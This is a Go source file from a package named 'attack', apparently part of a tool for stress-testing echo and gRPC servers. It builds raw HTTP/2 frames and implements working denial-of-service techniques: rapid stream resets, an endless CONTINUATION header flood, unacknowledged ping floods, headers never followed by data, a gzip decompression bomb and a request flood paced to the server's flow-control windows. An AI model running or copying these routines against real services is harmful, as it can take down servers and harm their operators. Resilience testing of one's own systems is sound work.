package attack

import (
	"bytes"
	"encoding/binary"
	"io"
	"net"
	"strconv"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// maxData is the maximum length of a frame's payload, and initialWindow is how much data
// a client may send, both in bytes and until the server allows more.
const maxData, initialWindow = 16 << 10, 65535

// A call is a request over HTTP/2.
type call struct {
	headers []byte // encoded
	body    []byte
}

// echoCall returns a request for an echo.
func echoCall(size int) call {
	m := message(size)
	return call{block(":path", "/echo", "content-type", "application/x-protobuf", "content-length", strconv.Itoa(len(m))), m}
}

// grpcCall returns a call of gRPC, whose messages are preceded by their lengths.
func grpcCall(size int) call { return grpcMessage(0, message(size)) }

// grpcBomb returns a compressed call of gRPC
// (grpc.github.io/grpc/core/md_doc_compression.html).
func grpcBomb(size int) call { return grpcMessage(1, gzipped(zeros(size)), "grpc-encoding", "gzip") }

func grpcMessage(compressed byte, m []byte, more ...string) call {
	fields := append([]string{":path", "/echobench.grpcecho.Echo/Echo", "content-type", "application/grpc", "te", "trailers"}, more...)
	return call{block(fields...), append(binary.BigEndian.AppendUint32([]byte{compressed}, uint32(len(m))), m...)}
}

// block returns a POST request's header fields, given as names and values. It does not
// depend on the blocks that were sent before.
func block(fields ...string) []byte {
	return appendFields(nil, append([]string{":method", "POST", ":scheme", "http", ":authority", "x"}, fields...)...)
}

func appendFields(b []byte, fields ...string) []byte {
	out := bytes.NewBuffer(b)
	e := hpack.NewEncoder(out)
	for i := 0; i < len(fields); i += 2 {
		e.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1], Sensitive: true}) // not indexed
	}
	return out.Bytes()
}

// frames returns the frames that f writes.
func frames(f func(*http2.Framer)) []byte {
	var b bytes.Buffer
	f(http2.NewFramer(&b, nil))
	return b.Bytes()
}

// overHTTP2 returns the wire of a protocol over HTTP/2. Its client does not allow the
// server to send any part of a response's body.
func overHTTP2(request func(size int) call) wire {
	return wire{
		hello: http2.ClientPreface + string(frames(func(f *http2.Framer) { f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize}) })),
		first: func(size int) []byte { return frames(func(f *http2.Framer) { request(size).write(f, 1) }) },
		half:  len(http2.ClientPreface),
		endless: string(frames(func(f *http2.Framer) {
			f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request(0).headers})
		})),
		more: always(frames(func(f *http2.Framer) { f.WriteContinuation(1, false, appendFields(nil, "x-field", headerOfSize)) })),

		http2: request,
	}
}

var (
	http2Echo = overHTTP2(echoCall)
	grpcUnary = bombing(overHTTP2(grpcCall), overHTTP2(grpcBomb))
)

// write writes the call on a stream, whatever the server's windows are.
func (c call) write(f *http2.Framer, stream uint32) {
	f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: c.headers, EndHeaders: true, EndStream: len(c.body) == 0})
	for rest := c.body; len(rest) > 0; {
		n := min(len(rest), maxData)
		f.WriteData(stream, n == len(rest), rest[:n])
		rest = rest[n:]
	}
}

// rapidReset begins requests and resets their streams at once.
func rapidReset(a *assault) error {
	request := a.wire.http2(0)
	return a.streams(true, func(f *http2.Framer, stream uint32) {
		request.write(f, stream)
		f.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// endTwice ends the stream of each request twice.
func endTwice(a *assault) error {
	request := a.wire.http2(64)
	return a.streams(true, func(f *http2.Framer, stream uint32) {
		request.write(f, stream)
		f.WriteData(stream, true, nil)
	})
}

// bareHeaders begins requests and never continues them.
func bareHeaders(a *assault) error {
	headers := a.wire.http2(64).headers
	return a.streams(true, func(f *http2.Framer, stream uint32) {
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers, EndHeaders: true})
	})
}

// pings sends pings and does not read their acknowledgements.
func pings(a *assault) error {
	return a.streams(false, func(f *http2.Framer, _ uint32) { f.WritePing(false, [8]byte{}) })
}

// streams sends what write writes for each of n streams. When the server ends a
// connection, streams continues on another one. It returns when the server stops reading.
func (a *assault) streams(read bool, write func(f *http2.Framer, stream uint32)) error {
	const together = 100 // streams in one write
	var conn net.Conn
	next := uint32(1)
	for sent := 0; sent < a.n && !a.over(); sent += together {
		if conn == nil {
			var err error
			if conn, err = a.greeted(); err != nil {
				return err
			}
			if reading := conn; read {
				a.running.Go(func() { io.Copy(io.Discard, reading) })
			}
			next = 1
		}
		b := frames(func(f *http2.Framer) {
			for range together {
				write(f, next)
				next += 2
			}
		})
		switch err := a.write(conn, b); {
		case isTimeout(err):
			return nil
		case err != nil:
			a.close(conn)
			conn = nil
		}
	}
	return nil
}

func isHTTP2(tg *target) bool { return tg.wire.http2 != nil }

// floodHTTP2 sends requests as fast as the server's windows allow. It reads frames only
// to learn of them.
func (a *assault) floodHTTP2(size, requests int) error {
	conn, err := a.greeted()
	if err != nil {
		return err
	}
	request := a.wire.http2(size)
	w := windows{framer: http2.NewFramer(nil, conn), streams: map[uint32]int{}, initial: initialWindow, connection: initialWindow}
	for stream := uint32(1); stream < 2*uint32(requests) && !a.over(); stream += 2 {
		w.streams[stream] = w.initial
		headers := http2.HeadersFrameParam{StreamID: stream, BlockFragment: request.headers, EndHeaders: true}
		if a.write(conn, frames(func(f *http2.Framer) { f.WriteHeaders(headers) })) != nil {
			return nil
		}
		for rest := request.body; len(rest) > 0; {
			n := min(len(rest), maxData, w.connection, w.streams[stream])
			if _, open := w.streams[stream]; !open {
				break // refused
			}
			if n <= 0 {
				conn.SetReadDeadline(time.Now().Add(a.patience))
				if w.read(func(f func(*http2.Framer)) { a.write(conn, frames(f)) }) != nil {
					return nil // the server allows nothing more
				}
				continue
			}
			if a.write(conn, frames(func(f *http2.Framer) { f.WriteData(stream, n == len(rest), rest[:n]) })) != nil {
				return nil
			}
			w.connection -= n
			w.streams[stream] -= n
			rest = rest[n:]
		}
	}
	return nil
}

// windows are how many bytes a client may send.
type windows struct {
	framer     *http2.Framer
	connection int
	initial    int            // of a new stream
	streams    map[uint32]int // without those that the server has answered or refused
}

// read reads one frame of the server and, if it must be acknowledged, does that.
func (w *windows) read(write func(func(*http2.Framer))) error {
	frame, err := w.framer.ReadFrame()
	switch frame := frame.(type) {
	case *http2.PingFrame:
		if !frame.IsAck() {
			write(func(f *http2.Framer) { f.WritePing(true, frame.Data) })
		}
	case *http2.SettingsFrame:
		if n, ok := frame.Value(http2.SettingInitialWindowSize); ok {
			for id := range w.streams { // RFC 9113, section 6.9.2
				w.streams[id] += int(n) - w.initial
			}
			w.initial = int(n)
		}
		if !frame.IsAck() {
			write(func(f *http2.Framer) { f.WriteSettingsAck() })
		}
	case *http2.WindowUpdateFrame:
		id, n := frame.StreamID, int(frame.Increment)
		if _, open := w.streams[id]; open {
			w.streams[id] += n
		} else if id == 0 {
			w.connection += n
		}
	case *http2.HeadersFrame, *http2.RSTStreamFrame:
		delete(w.streams, frame.Header().StreamID)
	}
	return err
}
